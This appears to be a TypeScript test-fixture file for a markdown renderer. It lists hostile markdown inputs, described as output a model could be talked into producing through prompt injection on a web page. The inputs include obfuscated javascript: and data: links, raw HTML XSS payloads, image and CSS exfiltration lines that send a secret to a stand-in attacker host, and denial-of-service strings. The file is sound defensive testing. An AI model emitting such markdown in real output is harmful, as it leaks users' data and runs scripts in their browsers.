/**
 * Where an attacker would collect exfiltrated data. A closed local port answers at once with a
 * refusal, so a request the renderer should never have made still shows in the network log.
 *
 * @example
 * `![x](${ATTACKER}/leak?q=secret)`
 */
export const ATTACKER = 'http://127.0.0.1:9'
/** The one image origin the tests allow. */
export const ALLOWED_IMAGE_ORIGIN = 'https://cdn.example'

/**
 * Hostile markdown a model can be talked into emitting (prompt injection through a web page):
 * script URLs in every spelling, raw HTML, and image/CSS exfiltration in every syntax.
 * Extends the component family's jsdom list; here they run in Chromium with a network log.
 *
 * @example
 * for (const [what, source] of HOSTILE_MARKDOWN) render(<StreamingMarkdown>{source}</StreamingMarkdown>)
 */
export const HOSTILE_MARKDOWN: ReadonlyArray<readonly [string, string]> = [
  // Script-capable link schemes in every spelling.
  ['javascript: link', '[click](javascript:alert(1))'],
  ['mixed-case scheme', '[click](JaVaScRiPt:alert(1))'],
  ['literal tab inside the scheme', '[click](java\tscript:alert(1))'],
  ['tab entity inside the scheme', '[click](jav&#x09;ascript:alert(1))'],
  ['newline entity inside the scheme', '[click](java&#10;script:alert(1))'],
  ['decimal-entity scheme', '[click](&#106;avascript:alert(1))'],
  ['hex-entity scheme with padding zeros', '[click](&#x0006A;avascript:alert(1))'],
  ['entity colon', '[click](javascript&colon;alert(1))'],
  ['leading tab', '[click](\tjavascript:alert(1))'],
  ['leading entity space', '[click](&#32;javascript:alert(1))'],
  ['NUL before the colon', '[click](javascript\u0000:alert(1))'],
  ['percent-encoded scheme letter', '[click](%6Aavascript:alert(1))'],
  ['angle-bracket destination with spaces', '[click](< javascript:alert(1)>)'],
  ['vbscript link', '[click](vbscript:msgbox(1))'],
  ['VBScript upper case', '[click](VBSCRIPT:msgbox(1))'],
  ['data: html link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['data: link in mixed case', '[click](DaTa:text/html,<script>alert(1)</script>)'],
  ['file link', '[click](file:///etc/passwd)'],
  ['javascript autolink', '<javascript:alert(1)>'],
  ['reference-style javascript link', '[click][r]\n\n[r]: javascript:alert(1)'],
  ['reference definition before use', '[r]: <javascript:alert(1)>\n\n[click][r]'],
  ['link title carrying an attribute', '[click](https://ok.example "x\\" onmouseover=alert(1) y")'],
  // Raw HTML of every kind: must show as text.
  ['raw script', '<script>alert(1)</script>'],
  ['script split across lines', '<scr\nipt>alert(1)</script>'],
  ['img onerror', `<img src=x onerror=alert(1)>`],
  ['svg onload', '<svg onload=alert(1)>'],
  ['iframe', '<iframe src="javascript:alert(1)"></iframe>'],
  ['inline html anchor', 'hi <a href="javascript:alert(1)">x</a> there'],
  ['html block with a link inside', '<div>\n<a href="javascript:alert(1)">x</a>\n</div>'],
  ['object and embed', `<object data="${ATTACKER}/o"></object><embed src="${ATTACKER}/e">`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${ATTACKER}/r">`],
  ['base href', `<base href="${ATTACKER}/">\n\n![x](a.png)`],
  ['link stylesheet', `<link rel="stylesheet" href="${ATTACKER}/s.css">`],
  ['style with CSS url()', `<style>body{background:url(${ATTACKER}/css)}</style>`],
  ['inline style url()', `<p style="background-image:url(${ATTACKER}/inline)">x</p>`],
  ['img srcset', `<img srcset="${ATTACKER}/s.png 1x, ${ATTACKER}/s2.png 2x">`],
  ['picture source', `<picture><source srcset="${ATTACKER}/p.png"><img src="${ATTACKER}/p2.png"></picture>`],
  ['video poster and audio', `<video poster="${ATTACKER}/v.png"></video><audio src="${ATTACKER}/a.mp3" autoplay></audio>`],
  ['form action and input image', `<form action="${ATTACKER}/f"><input type="image" src="${ATTACKER}/i.png"></form>`],
  ['MathML link', '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'],
  ['HTML comment hiding a tag', '<!-- --><img src=x onerror=alert(1)><!-- -->'],
  // Image exfiltration in every syntax.
  ['exfiltration image', `![x](${ATTACKER}/leak?q=secret)`],
  ['exfiltration image on a named host', '![x](https://evil.example/?q=secret)'],
  ['reference-style image', `![x][r]\n\n[r]: ${ATTACKER}/ref.png`],
  ['collapsed reference image', `![r][]\n\n[r]: ${ATTACKER}/collapsed.png`],
  ['protocol-relative image', '![x](//127.0.0.1:9/pr.png)'],
  ['backslash protocol-relative image', '![x](/\\127.0.0.1:9/bs.png)'],
  ['entity-encoded image URL', '![x](http&#58;//127.0.0.1:9/entity.png)'],
  ['upper-case scheme image', '![x](HTTP://127.0.0.1:9/upper.png)'],
  ['image in angle brackets with spaces', `![x](<${ATTACKER}/a b.png>)`],
  ['data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['javascript image', '![x](javascript:alert(1))'],
  ['bare URL to an image', `see ${ATTACKER}/bare.png now`],
  ['autolink to an image', `<${ATTACKER}/autolink.png>`],
  ['image inside a link', `[![x](${ATTACKER}/nested.png)](${ATTACKER})`],
  ['image on an allowed-looking host', '![x](https://cdn.example.evil.example/a.png)'],
  ['image with a userinfo trick', '![x](https://cdn.example@127.0.0.1:9/userinfo.png)'],
  ['image in a table cell', `| a |\n|---|\n| ![x](${ATTACKER}/cell.png) |`],
  ['image in a list in a quote', `> - ![x](${ATTACKER}/quote.png)`],
  ['image in a footnote', `text[^1]\n\n[^1]: ![x](${ATTACKER}/footnote.png)`],
  ['image in a code fence is only text', `\`\`\`\n![x](${ATTACKER}/fence.png)\n\`\`\``],
]

/**
 * Denial-of-service shapes from the issue; each must render without a crash or a long freeze.
 *
 * @example
 * DOS_INPUTS.map(([what, make]) => make().length)
 */
export const DOS_INPUTS: ReadonlyArray<readonly [string, () => string]> = [
  ['5,000-deep nesting (quotes, lists, brackets)', () => '> - ['.repeat(5_000) + 'deep' + ']'.repeat(5_000)],
  ['a 1 MB single line', () => 'lorem ipsum *dolor* sit `amet` '.repeat(34_000).slice(0, 1_000_000)],
  ['40 KB of unclosed brackets', () => '[!['.repeat(13_400).slice(0, 40_000)],
  ['a 100,000-line message', () => Array.from({ length: 100_000 }, (_, i) => `line ${i}`).join('\n')],
]
